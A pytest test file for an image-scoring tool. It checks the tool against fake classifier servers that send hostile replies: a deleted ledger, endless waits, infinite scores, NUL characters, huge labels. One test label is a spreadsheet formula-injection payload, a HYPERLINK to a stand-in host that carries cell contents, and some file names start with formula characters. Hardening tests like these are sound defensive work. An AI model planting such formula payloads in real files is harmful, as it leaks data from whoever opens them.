"""Servers that send what no honest one would: the run ends in one line, and its files can be read by anything."""

import csv
import json
import shutil
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import numpy as np
import pytest
from aiohttp import web
from conformance.vendors import served
from support.errors import code_in
from support.workshop import run, write_pictures, write_profile

from looktwice.decisions import verdict_files
from looktwice.engine.ledger.maintenance import stats
from looktwice.images.collection import read_truths
from looktwice.images.image import encode_png
from looktwice.labelling.labels import Click, Labels


@contextmanager
def answering(folder: Path, reply: web.Response, **settings: str) -> Iterator[Path]:
    """The profile of a classifier that gives this reply to everything."""

    async def answer(_: web.Request) -> web.Response:
        return web.Response(status=reply.status, headers=reply.headers, body=reply.body)

    app = web.Application()
    app.router.add_post("/", answer)
    write_pictures(folder / "pictures.npz", 2)
    with served(app) as address:
        told = {"connector": "http", "url": f"{address}/", **settings}
        (folder / "api.toml").write_text("".join(f"{name} = {json.dumps(value)}\n" for name, value in told.items()))
        write_profile(folder / "profile.json", folder / "api.toml")
        yield folder / "profile.json"


def score(profile: Path, out: str) -> tuple[int, str]:
    folder = profile.parent
    told = run("score", folder / "pictures.npz", "-p", profile, "--ledger", folder / "ledger.db", "-o", folder / out)
    return told.returncode, told.stderr


@pytest.mark.parametrize("whole_folder", [False, True])
def test_a_ledger_that_is_deleted_during_a_run_stops_it(tmp_path: Path, whole_folder: bool) -> None:
    ledger, requests = tmp_path / "ledger" / "answers.db", 0

    async def answer(_: web.Request) -> web.Response:
        nonlocal requests
        requests += 1
        if requests == 20 and whole_folder:
            shutil.rmtree(ledger.parent)
        elif requests == 20:
            for file in ledger.parent.glob("answers.db*"):
                file.unlink()
        return web.json_response({"label": "ant"})

    app = web.Application()
    app.router.add_post("/", answer)
    write_pictures(tmp_path / "pictures.npz", 60)
    with served(app) as address:
        (tmp_path / "api.toml").write_text(f'connector = "http"\nurl = "{address}/"\nconcurrency = 2\n')
        write_profile(tmp_path / "profile.json", tmp_path / "api.toml")
        told = run("score", tmp_path / "pictures.npz", "-p", tmp_path / "profile.json", "--ledger", ledger,
                   "-o", tmp_path / "verdicts.csv")  # fmt: skip
    assert (told.returncode, code_in(told.stderr)) == (1, "ledger-unusable")
    assert not {"Traceback", "Unclosed"} & {*told.stderr.split()}
    assert requests <= 20 + 8  # what was entered by then


@pytest.mark.parametrize("wait", ["999999999999999", "Fri, 31 Dec 9999 23:59:59 GMT"])
def test_a_wait_beyond_every_calendar_is_one_line(tmp_path: Path, wait: str) -> None:
    headers = {"retry-after": wait, "date": "Fri, 01 Jan 2021 00:00:00 GMT"}
    with answering(tmp_path, web.Response(status=429, headers=headers)) as profile:
        code, said = score(profile, "verdicts.csv")
    assert "rate-limited" in said
    assert "Traceback" not in said
    assert code == 1


def test_a_score_without_end_is_no_number_in_any_file(tmp_path: Path) -> None:
    reply = web.Response(text='{"label": "ant", "score": 1e999}', content_type="application/json")
    with answering(tmp_path, reply, label="label", score="score") as profile:
        assert score(profile, "verdicts.jsonl")[0] == 0
    assert run("ledger", "export", tmp_path / "answers.jsonl", "--ledger", tmp_path / "ledger.db").returncode == 0

    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is not JSON")

    for name in ("verdicts.jsonl", "answers.jsonl"):
        lines = (tmp_path / name).read_text().splitlines()
        assert {json.loads(line, parse_constant=refuse)["score"] for line in lines} == {None}


def test_a_zero_character_is_no_label_in_any_ledger(tmp_path: Path) -> None:
    reply = web.Response(text='{"label": "a\\u0000nt"}', content_type="application/json")
    with answering(tmp_path, reply) as profile:
        code, said = score(profile, "verdicts.jsonl")
    assert code == 3
    assert "Traceback" not in said
    lines = [json.loads(line) for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
    assert {line["code"] for line in lines} == {"reply-malformed"}


def test_a_spreadsheet_runs_neither_a_label_nor_a_name_and_looktwice_reads_both_as_they_are(tmp_path: Path) -> None:
    label = '=HYPERLINK("http://example.org?"&A1)'
    names = ["-1+1.png", "@x.png", "+x.png", "=1+1.png", "'=x.png", "a.png"]
    (tmp_path / "photos").mkdir()
    for place, name in enumerate(names):
        (tmp_path / "photos" / name).write_bytes(encode_png(np.full((8, 8, 3), 40 * place, np.uint8)))
    reply = web.json_response({"label": label})
    out, ledger, photos = tmp_path / "verdicts.csv", tmp_path / "ledger.db", tmp_path / "photos"
    with answering(tmp_path, reply, label="label") as profile:
        done = run("score", photos, "-p", profile, "--ledger", ledger, "-o", out)
    assert done.returncode == 0, done.stderr
    exported = run("ledger", "export", tmp_path / "answers.csv", "--ledger", ledger, "--pictures", photos)
    assert exported.returncode == 0, exported.stderr
    with closing(Labels(tmp_path / "labels.csv")) as labels:
        for name in names:
            labels.add(Click(id=name.encode().hex(), window="w", file=name, says="label", labels=(label,)))
    for path in (out, tmp_path / "answers.csv", tmp_path / "labels.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert any(label in cell for cell in cells)
        assert not [cell for cell in cells if cell[:1] in {*"=+-@\t\r"}]
    assert sorted((verdict.name, verdict.label) for verdict in verdict_files.read(out)) == sorted(
        (name, label) for name in names
    )
    truths = read_truths(tmp_path / "labels.csv")
    assert {name: told.truth for name, told in truths.items()} == dict.fromkeys(names, label)


def test_a_text_of_megabytes_is_no_label(tmp_path: Path) -> None:
    with answering(tmp_path, web.json_response({"label": "x" * 5_000_000}), label="label") as profile:
        code, said = score(profile, "verdicts.csv")
    assert code == 3
    assert "5,000,000 characters" in " ".join(said.split())
    assert sum(path.stat().st_size for path in tmp_path.glob("*") if path.suffix != ".ballast") < 1_000_000


def test_no_result_takes_the_place_of_a_ledger(tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.csv"
    with answering(tmp_path, web.json_response({"label": "ant"}), label="label") as profile:
        words = ("-p", profile, "--ledger", ledger, "--canaries", 0)
        first = run("score", tmp_path / "pictures.npz", *words, "-o", ledger)
        assert first.returncode == 1, first.stderr
        assert run("score", tmp_path / "pictures.npz", *words, "-o", tmp_path / "verdicts.csv").returncode == 0
    for tried in (
        run("score", tmp_path / "pictures.npz", *words, "-o", ledger),
        run("ledger", "export", ledger, "--ledger", ledger),
    ):
        assert (tried.returncode, code_in(tried.stderr)) == (1, "file-exists")
    assert sum(day.answered for day in stats(ledger)) == 10
